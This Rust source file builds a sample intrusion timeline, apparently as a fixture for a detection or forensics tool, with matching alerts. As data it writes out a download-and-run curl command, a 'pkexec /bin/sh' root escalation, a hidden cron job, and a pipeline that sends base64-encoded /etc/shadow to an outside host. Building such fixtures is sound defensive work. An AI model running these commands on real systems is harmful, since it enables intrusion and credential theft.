//! One whole attack: a web server runs a shell, which fetches a program, runs it, becomes root,
//! stays by way of cron, and sends the password hashes away.

use event::alert::Priority;

use super::{command, connection, endpoint, file, process, terminal_line, user};
use crate::model::{
    Acts, Alert, AlertId, Change, Command, Connection, ContainerFacts, Cuts, Density, End,
    ExeFacts, FileActivity, Gap, GapKind, Host, How, Moment, Origin, Pipeline, PipelineId,
    PrivilegeChange, Process, ProcessId, Protocol, Reach, Redirect, Relevance, Role, SCHEMA,
    Sensitivity, Session, SessionId, SessionKind, Source, Target, TerminalLine, Timeline, User,
    Window,
};

/// 2026-11-23T02:12:07Z.
const ZERO_NS: u64 = 1_795_399_927 * NS_PER_S;
const NS_PER_S: u64 = 1_000_000_000;

/// A time so many ms after the first alert.
fn ns(ms: i64) -> u64 {
    ZERO_NS.saturating_add_signed(ms * 1_000_000)
}

/// A place in the record so many ms after the first alert.
fn at(ms: i64) -> Moment {
    Moment { ts_ns: ns(ms), event: 40_000u64.saturating_add_signed(ms) }
}

fn www() -> User {
    user(33, "www-data")
}

fn root() -> User {
    user(0, "root")
}

/// The attack.
pub(crate) fn sample() -> Timeline {
    let mut timeline = Timeline {
        schema: SCHEMA,
        host: Host { name: "shop-1".into(), cpus: 4, boot_ns: ns(-86_400_000) },
        window: Window {
            zero_ns: ns(0),
            first_ns: ns(-31_200),
            last_ns: ns(30_000),
            events: 48_211,
            lost: 12,
        },
        density: Density {
            step_ns: 1_000_000_000,
            steps: (0..62).map(|n| [n % 3, n, 2, 1]).collect(),
        },
        gaps: vec![Gap {
            from_ns: ns(4_100),
            to_ns: ns(4_350),
            kind: GapKind::Lost { events: 12 },
        }],
        cuts: Cuts::default(),
        ..Timeline::default()
    };
    web_server(&mut timeline);
    first_shell(&mut timeline);
    second_shell(&mut timeline);
    as_root(&mut timeline);
    bystanders(&mut timeline);
    sessions(&mut timeline);
    alerts(&mut timeline);
    timeline.summary = crate::summary::sentences(&timeline);
    timeline
}

/// Adds a process below its parent.
fn add(timeline: &mut Timeline, parent: Option<ProcessId>, process: Process) -> ProcessId {
    let id = ProcessId(timeline.processes.len() as u32);
    if let Some(parent) = parent.and_then(|parent| timeline.processes.get_mut(parent.index())) {
        parent.children.push(id);
    }
    timeline.processes.push(Process { parent, ..process });
    id
}

/// A process of the container that ran before the window.
fn before(pid: i64, argv: &[&str], user: User) -> Process {
    let name = argv.first().and_then(|title| title.split(':').next()).unwrap_or_default();
    let ran = command(argv);
    let command = Command { at: None, origin: Origin::Before, comm: name.into(), user, ..ran };
    Process {
        vpid: Some(pid - 790),
        commands: vec![command],
        relevance: Relevance::Related,
        ..process(pid)
    }
}

/// A process of the container that was forked and ran one command.
fn ran(pid: i64, ms: i64, argv: &[&str], user: User) -> Process {
    let command = Command { at: Some(at(ms)), user, cwd: "/srv/www".into(), ..command(argv) };
    Process { start: Some(at(ms)), ..before_with(pid, command) }
}

fn before_with(pid: i64, command: Command) -> Process {
    Process { commands: vec![command], ..before(pid, &[], User::default()) }
}

fn exited(process: Process, ms: i64) -> Process {
    Process { end: Some(End { at: at(ms), how: How::Exited { code: 0 } }), ..process }
}

fn touched(path: &str, acts: Acts, ms: i64, why: Option<Sensitivity>) -> FileActivity {
    FileActivity { first: at(ms), last: at(ms + 1), sensitivity: why, ..file(path, acts, 0) }
}

fn spoke(remote: &str, from: i64, to: i64, bytes: (u64, u64)) -> Connection {
    Connection {
        first: at(from),
        last: at(to),
        closed: Some(at(to)),
        bytes_sent: bytes.0,
        bytes_received: bytes.1,
        ..connection(remote, 0)
    }
}

/// 0 to 2.
fn web_server(timeline: &mut Timeline) {
    let master = add(timeline, None, before(801, &["nginx: master process nginx"], root()));
    let mut worker = before(812, &["nginx: worker process"], www());
    worker.network.push(Connection {
        role: Role::Accepted,
        local: Some(endpoint("10.0.3.4:443")),
        closed: None,
        ..spoke("203.0.113.9:51122", -12_481, 6_000, (912, 2_210))
    });
    worker.network.push(Connection {
        protocol: Protocol::Unix,
        path: "/run/php/php-fpm.sock".into(),
        local: None,
        remote: None,
        reach: Reach::Machine,
        ..spoke("127.0.0.1:1", -3, 9, (700, 300))
    });
    add(timeline, Some(master), worker);
    add(timeline, None, before(911, &["php-fpm: pool www"], www()));
}

const PHP: ProcessId = ProcessId(2);

/// 3 to 5.
fn first_shell(timeline: &mut Timeline) {
    let mut shell = exited(ran(1204, 0, &["sh", "-c", "id; uname -a"], www()), 6);
    shell.alerts = vec![AlertId(0)];
    shell.relevance = Relevance::Alerted;
    let shell = add(timeline, Some(PHP), shell);
    add(timeline, Some(shell), exited(ran(1205, 1, &["id"], www()), 2));
    add(timeline, Some(shell), exited(ran(1206, 3, &["uname", "-a"], www()), 4));
}

/// 6 to 9.
fn second_shell(timeline: &mut Timeline) {
    let script = "curl -s http://cdn.example.net:8080/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x";
    let shell = add(timeline, Some(PHP), ran(1207, 3_120, &["sh", "-c", script], www()));
    let curl = ["curl", "-s", "http://cdn.example.net:8080/x", "-o", "/tmp/.x"];
    let mut curl = exited(ran(1208, 3_122, &curl, www()), 3_332);
    let mut resolver = spoke("10.0.0.53:53", 3_130, 3_141, (40, 72));
    (resolver.protocol, resolver.reach) = (Protocol::Udp, Reach::Private);
    let mut download = spoke("198.51.100.7:8080", 3_150, 3_330, (84, 49_357));
    download.name = Some("cdn.example.net".into());
    curl.network = vec![resolver, download];
    let why = Some(Sensitivity::Temporary);
    let mut dropped = touched("/tmp/.x", Acts::CREATED | Acts::WRITTEN, 3_200, why);
    dropped.bytes_written = 49_357;
    curl.files = vec![dropped];
    for library in ["/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libcurl.so.4"] {
        let routine = touched(library, Acts::READ | Acts::MAPPED, 3_123, None);
        curl.files.push(FileActivity { routine: true, ..routine });
    }
    add(timeline, Some(shell), curl);
    let mut chmod = exited(ran(1209, 3_334, &["chmod", "+x", "/tmp/.x"], www()), 3_335);
    let mode = touched("/tmp/.x", Acts::MODE, 3_334, why);
    chmod.files = vec![FileActivity { mode: Some(0o755), ..mode }];
    add(timeline, Some(shell), chmod);
    let mut dropped = ran(1210, 3_336, &["/tmp/.x"], www());
    dropped.commands[0].facts = ExeFacts::NEW | ExeFacts::WRITABLE | ExeFacts::UPPER_LAYER;
    dropped.commands[0].exe_mtime_ns = ns(3_330);
    let control = spoke("198.51.100.7:4444", 3_340, 29_000, (3_174, 512));
    dropped.network = vec![Connection { closed: None, ..control }];
    dropped.alerts = vec![AlertId(1)];
    dropped.relevance = Relevance::Alerted;
    add(timeline, Some(shell), dropped);
}

/// 10 and on: the shell of root and its children.
fn as_root(timeline: &mut Timeline) {
    let mut shell = ran(1211, 5_870, &["pkexec", "/bin/sh"], root());
    shell.commands[0].facts = ExeFacts::SETUID;
    let plain = command(&["/bin/sh"]);
    shell.commands.push(Command { at: Some(at(5_902)), user: root(), ..plain });
    shell.commands[1].redirects =
        vec![Redirect { fd: 0, to: Target::Socket("198.51.100.7:4444".into()) }];
    let change = Change::User { from: www(), to: root(), by: "execve" };
    shell.privileges = vec![PrivilegeChange { at: at(5_870), change, error: None }];
    let why = Some(Sensitivity::Persistence);
    let mut cron = touched("/etc/cron.d/.upd", Acts::CREATED | Acts::WRITTEN, 5_950, why);
    cron.bytes_written = 61;
    shell.files = vec![cron];
    let line = |text: &str, ms| TerminalLine { at: at(ms), ..terminal_line(text, 0) };
    shell.terminal = vec![line("# cd /etc/cron.d", 5_940), line("# set +o history", 5_960)];
    shell.alerts = vec![AlertId(2)];
    shell.relevance = Relevance::Alerted;
    let shell = add(timeline, Some(ProcessId(9)), shell);
    let mut grep =
        exited(ran(1212, 5_990, &["grep", "-r", "password", "/etc", "/home"], root()), 6_150);
    grep.files = (0..41)
        .map(|n| {
            let path = if n < 30 { format!("/etc/app/{n}.conf") } else { format!("/home/ada/{n}") };
            FileActivity { bytes_read: 512, ..touched(&path, Acts::READ, 5_991 + n, None) }
        })
        .collect();
    add(timeline, Some(shell), grep);
    exfiltration(timeline, shell);
    for n in 0..12 {
        let sleep = ran(1220 + n, 7_000 + n * 1_010, &["sleep", "1"], root());
        add(timeline, Some(shell), exited(sleep, 8_001 + n * 1_010));
    }
}

fn exfiltration(timeline: &mut Timeline, shell: ProcessId) {
    let pipe = |fd| Redirect { fd, to: Target::Pipe };
    let first = ProcessId(timeline.processes.len() as u32);
    let mut cat = exited(ran(1213, 6_200, &["cat", "/etc/shadow"], root()), 6_204);
    let shadow = touched("/etc/shadow", Acts::READ, 6_201, Some(Sensitivity::Credentials));
    cat.files = vec![FileActivity { bytes_read: 1_210, ..shadow }];
    cat.alerts = vec![AlertId(3)];
    cat.relevance = Relevance::Alerted;
    cat.commands[0].redirects = vec![pipe(1)];
    let mut base64 = exited(ran(1214, 6_200, &["base64", "-w0"], root()), 6_205);
    base64.commands[0].redirects = vec![pipe(0), pipe(1)];
    let url = "http://198.51.100.7:8080/u";
    let mut curl = exited(ran(1215, 6_201, &["curl", "-s", "-d", "@-", url], root()), 6_290);
    curl.commands[0].redirects = vec![pipe(0)];
    curl.network = vec![spoke("198.51.100.7:8080", 6_210, 6_289, (1_790, 130))];
    for member in [cat, base64, curl] {
        let id = add(timeline, Some(shell), member);
        timeline.processes[id.index()].commands[0].pipeline = Some(PipelineId(0));
    }
    let members = (first.0..first.0 + 3).map(ProcessId).collect();
    timeline.pipelines.push(Pipeline { members });
}

/// A login and a service that have nothing to do with it.
fn bystanders(timeline: &mut Timeline) {
    let background = |process: Process, session| Process {
        session: SessionId(session),
        relevance: Relevance::Background,
        vpid: None,
        ..process
    };
    let ada = user(1000, "ada");
    let mut bash = background(before(1500, &["-bash"], ada.clone()), 1);
    let line = |text: &str, ms| TerminalLine { at: at(ms), ..terminal_line(text, 0) };
    bash.terminal = vec![line("$ export EDITOR=vi", -20_100), line("$ ls -l", -20_050)];
    let bash = add(timeline, None, bash);
    for n in 0..3 {
        let ls =
            exited(ran(1501 + n, -20_000 + n * 10, &["ls", "-l"], ada.clone()), -19_995 + n * 10);
        add(timeline, Some(bash), background(ls, 1));
    }
    add(timeline, None, background(before(701, &["/usr/sbin/cron", "-f"], root()), 2));
}

fn sessions(timeline: &mut Timeline) {
    let container = ContainerFacts {
        id: "3f9c0d7e21ab".into(),
        name: "shop-web-1".into(),
        engine: "containerd",
        image: "registry.example/shop/nginx:1.25".into(),
        pod: "web-6d9f".into(),
        pod_namespace: "shop".into(),
        ..ContainerFacts::default()
    };
    let source = Source {
        remote: endpoint("203.0.113.9:51122"),
        name: None,
        by: ProcessId(1),
        at: Some(at(-12_481)),
    };
    let kinds = [
        SessionKind::Container(container),
        SessionKind::Login { user: user(1000, "ada"), sid: 1500, tty: 0x8800 },
        SessionKind::Service { name: "cron.service".into() },
    ];
    for (index, kind) in kinds.into_iter().enumerate() {
        let of = |process: &&Process| process.session.index() == index;
        let roots = timeline.processes.iter().enumerate();
        let roots = roots.filter(|(_, p)| of(p) && p.parent.is_none());
        timeline.sessions.push(Session {
            kind,
            roots: roots.map(|(at, _)| ProcessId(at as u32)).collect(),
            source: (index == 0).then(|| source.clone()),
            relevance: if index == 0 { Relevance::Alerted } else { Relevance::Background },
            processes: timeline.processes.iter().filter(of).count() as u64,
            events: 900,
        });
    }
}

fn alerts(timeline: &mut Timeline) {
    let mut add = |ms, rule: &str, priority, output: &str, process, count| {
        timeline.alerts.push(Alert {
            at: at(ms),
            rule: rule.to_owned(),
            priority,
            output: output.to_owned(),
            tags: vec!["T1059".to_owned()],
            process: Some(ProcessId(process)),
            count,
            last_ns: ns(ms) + (count - 1) * 3_120_000_000,
        });
    };
    let critical = Priority::Critical;
    add(0, "web_shell", critical, "Shell spawned by a web server | command=sh -c id", 3, 2);
    add(3_336, "drop_and_run", critical, "New executable run from a writable place", 9, 1);
    add(5_950, "cron_persistence", Priority::Warning, "Cron job written", 10, 1);
    add(6_201, "shadow_read", Priority::Warning, "Password hashes read", 12, 1);
}
